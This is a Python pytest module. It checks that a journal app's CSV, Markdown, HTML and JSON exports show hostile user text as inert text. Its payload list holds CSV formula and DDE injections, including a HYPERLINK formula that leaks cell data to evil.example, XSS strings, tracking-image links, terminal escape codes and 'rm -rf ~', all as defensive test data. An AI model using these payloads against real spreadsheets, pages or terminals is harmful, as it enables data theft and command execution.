"""Exports stay inert in the coach's tools: hostile text in every user field is shown, never run.

A journal holds formula, Markdown, HTML and terminal payloads as tool, skill, tag, note, person
names and imported calendar titles and attendees. Each coach-facing format is then read the way
the coach's program reads it: the CSV with the csv module (no cell may start like a formula), the
Markdown with a CommonMark + GFM parser (same structure as a harmless journal, no link, image,
autolink or HTML), the HTML with an HTML parser (same tags as a harmless journal, no attribute
from user text), and every format's bytes for control codes a terminal would obey.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import json
import re
import time
from collections import Counter
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from journal import export as exporters
from journal import service
from journal.clock import localize
from journal.export.safe import csv_cell, md_text, visible
from journal.export.summary import Options
from journal.importers import ics
from journal.store import JournalStore

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "![x](http://evil.example/beacon.png)",
    "<img src=http://evil.example/b.png onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "<http://evil.example/auto>",
    "see http://evil.example/x and www.evil.example or mail me@evil.example",
    "`rm -rf ~` | a | b",
    "**bold** _it_ ~~gone~~ $x^2$ {: .x}",
    "line one\n# Heading\n- item\n\n| a | b |\n|---|---|\n[ref]: http://evil.example/r",
    '"><script>alert(1)</script><svg onload=alert(1)>',
    "\x1b[2J\x1b]8;;http://evil.example\x07link\x1b]8;;\x07\x9b31m",
    "\u202egnp.exe",
    "&lt;b&gt;entity&amp; &#60;img&#62;",
    "[[wiki]] [^1] <!-- c -->",
]
TITLE = '@SUM(1)+HYPERLINK("http://evil.example") ![x](http://evil.example/cal.png)'  # ics
ATTENDEE = "=cmd|' /C calc'!A0 <img src=x> [a](http://evil.example/cn) `x`"  # an ics CN
HARMLESS = [f"plain text {n}" for n in range(len(PAYLOADS))]
CALENDAR = """BEGIN:VCALENDAR
VERSION:2.0
PRODID:-//test//EN
BEGIN:VEVENT
UID:hostile-1
DTSTART:20261124T090000Z
DTEND:20261124T093000Z
SUMMARY:{title}
ORGANIZER:mailto:me@example.com
ATTENDEE;CN="{person}":mailto:guest@example.com
END:VEVENT
END:VCALENDAR
"""
MODES = {
    "default": {},
    "notes": {"include_notes": True},
    "open": {"include_notes": True, "real_names": True},
}
FORMULA = tuple("=+-@\t\r")
# C0 (but tab, newline and carriage return, which the formats quote or flatten), DEL, C1, bidi.
TERMINAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def at(day: int, hour: int) -> dt.datetime:
    return localize(dt.datetime(2026, 11, day, hour))


def build(store: JournalStore, texts: list[str], tmp_path, tag: str) -> None:
    """Every user field of the journal filled with `texts`, one or more entries each."""
    for n, text in enumerate(texts):
        day = 1 + n % 25
        service.log_ai(
            store,
            tool=text,
            minutes=30 + n,
            at=at(day, 9),
            purpose="learn",
            skill=text,
            note=text,
            tags=[text],
        )
        service.log_interaction(
            store,
            people=[f"{text} ({n})"],
            minutes=20,
            at=at(day, 11),
            quality=4,
            kind="mentoring",
            note=text,
            tags=[text],
        )
        service.log_energy(store, level=1 + n % 5, at=at(day, 17), note=text, tags=[text])
    calendar = tmp_path / f"{tag}.ics"
    hostile = texts is PAYLOADS
    calendar.write_text(
        CALENDAR.format(
            title=TITLE if hostile else "Planning", person=ATTENDEE if hostile else "Guest"
        ),
        encoding="utf-8",
    )
    ics.run(store, str(calendar), me="me@example.com", since=localize(dt.datetime(2026, 11, 1)))


@pytest.fixture(scope="module")
def journals(tmp_path_factory):
    """(hostile journal, harmless journal of the same shape), built once for this module under
    the suite's pinned clock and zone."""
    from tests.conftest import PINNED_NOW

    folder = tmp_path_factory.mktemp("safety")
    opened = []
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("AIJOURNAL_NOW", PINNED_NOW)
        patch.setenv("TZ", "Europe/Berlin")
        time.tzset()
        for tag, texts in (("hostile", PAYLOADS), ("harmless", HARMLESS)):
            store = JournalStore.open(str(folder / f"{tag}.db"))
            opened.append(store)
            build(store, texts, folder, tag)
    time.tzset()
    yield opened
    for store in opened:
        store.close()


def render(store: JournalStore, fmt: str, mode: str) -> str:
    return exporters.get(fmt).export(store, Options(**MODES[mode]))


def shape(tokens) -> Counter:
    """The structure of a parsed Markdown document: token types, nested ones included."""
    found: Counter = Counter()
    for token in tokens:
        found[token.type] += 1
        if token.children:
            found.update(shape(token.children))
    return found


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter = Counter()
        self.attributes: list[tuple[str, str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags[tag] += 1
        self.attributes += [(tag, name, value) for name, value in attrs]

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.tags["<!--"] += 1


def parsed_html(page: str) -> Tags:
    parser = Tags()
    parser.feed(page)
    parser.close()
    return parser


# --- every format ----------------------------------------------------------------------------


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("fmt", ["md", "json", "csv", "html"])
def test_no_terminal_control_codes_in_any_export(journals, fmt, mode):
    text = render(journals[0], fmt, mode)
    assert not TERMINAL.search(text), repr(TERMINAL.search(text))
    if mode != "default":
        shown = "\\u001b" if fmt == "json" else "\\x1b"  # JSON's escape, or Python's
        assert shown in text and "2J" in text  # shown, not dropped


# --- CSV -------------------------------------------------------------------------------------


@pytest.mark.parametrize("mode", MODES)
def test_csv_cells_never_start_like_a_formula(journals, mode):
    text = render(journals[0], "csv", mode)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert len(rows) > len(PAYLOADS) * 3
    starting = [cell for cell in cells if cell.lstrip()[:1] in FORMULA + tuple("＝＋－＠")]
    assert starting == []
    quoted = [cell for cell in cells if cell.startswith("'")]
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")' in quoted  # tool column
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'\t=1+1" in cells
    if mode == "open":  # the people column, with real names
        people = [r[9] for r in rows]
        assert "'-2+3+cmd|' /C calc'!A0 (2)" in people and "'" + ATTENDEE in people
        assert "'" + TITLE in [r[-1] for r in rows]  # the calendar title, as the note


def test_csv_numbers_stay_numbers_and_plain_text_stays_plain():
    assert csv_cell(-3) == -3 and csv_cell(2.5) == 2.5 and csv_cell(None) is None
    assert csv_cell("Claude") == "Claude" and csv_cell("") == ""
    assert csv_cell("a-b = c") == "a-b = c"  # only the first character counts
    assert [csv_cell(c + "x") for c in "=+-@\t"] == ["'" + c + "x" for c in "=+-@\t"]
    assert csv_cell("\rx") == "\\rx"  # a carriage return is shown escaped, and inert


# --- Markdown --------------------------------------------------------------------------------


def markdown() -> MarkdownIt:
    return MarkdownIt("commonmark", {"linkify": True, "html": True}).enable(
        ["linkify", "table", "strikethrough"]
    )


@pytest.mark.parametrize("mode", MODES)
def test_markdown_user_text_is_never_markup(journals, mode):
    hostile, harmless = (render(store, "md", mode) for store in journals)
    parser = markdown()
    tokens = parser.parse(hostile)
    found = shape(tokens)
    for live in (
        "link_open",
        "image",
        "html_inline",
        "html_block",
        "code_inline",
        "s_open",
        "em_open",
        "heading_open",
    ):
        assert found[live] == shape(parser.parse(harmless))[live], live
    assert found == shape(parser.parse(harmless))  # same tables, rows, lists and paragraphs
    assert not re.search(r"(?<!\\)\]\(", hostile)
    assert not re.search(r"(?<!\\)<", hostile)
    page = parser.render(hostile)
    for tag in ("<img", "<a ", "<script", "<svg", "<h1>Heading"):
        assert tag not in page
    if mode != "default":  # and the text is still there, readable
        shown = html.unescape(page)
        assert "![x](http://evil.example/beacon.png)" in shown
        assert "<img src=http://evil.example/b.png onerror=alert(1)>" in shown
        assert "see http://evil.example/x and www.evil.example or mail me@evil.example" in shown
        assert "&lt;b&gt;entity&amp; &#60;img&#62;" in shown
    if mode == "open":
        assert ATTENDEE in html.unescape(page) and TITLE in html.unescape(page)


def test_md_text_keeps_words_readable():
    assert md_text("Claude") == "Claude"
    assert md_text("10:30 stand-up, 2.5 h (call)!") == "10:30 stand-up, 2.5 h (call)!"
    assert md_text("a\nb\r\nc\u2028d") == "a b c d"
    assert md_text("\x1b[31m") == "\\x1b\\[31m"


# --- HTML ------------------------------------------------------------------------------------


@pytest.mark.parametrize("mode", MODES)
def test_html_user_text_never_becomes_tags_or_attributes(journals, mode):
    hostile, harmless = (parsed_html(render(store, "html", mode)) for store in journals)
    assert hostile.tags == harmless.tags
    assert [(t, a) for t, a, _ in hostile.attributes] == [(t, a) for t, a, _ in harmless.attributes]
    for tag, name, value in hostile.attributes:
        assert not name.startswith("on") and name not in ("src", "href"), (tag, name)
        assert "evil" not in (value or "") and "javascript" not in (value or "")
    text = "".join(hostile.text)
    assert "<script>alert(1)</script>" in text  # as text (the tool, shown in every mode)
    if mode == "open":
        assert visible(PAYLOADS[17]) in text and "\x1b" not in text


def test_html_escapes_svg_titles_and_attributes():
    from journal.export.html import bar_chart, esc

    svg = bar_chart([('"><script>x</script>', [("#000", 3.0)])], 'a"b<c>')
    assert "<script>" not in svg and 'aria-label="a&quot;b&lt;c&gt;"' in svg
    assert esc("\u202eevil\x1b") == "\\u202eevil\\x1b"


def test_json_keeps_the_data_and_shows_codes_escaped(journals):
    text = render(journals[0], "json", "open")
    document = json.loads(text)
    assert PAYLOADS[17] in document["totals"]["ai"]["tools"]  # the same string once parsed
    assert "\\u009b31m" in text and "\\u202egnp" in text
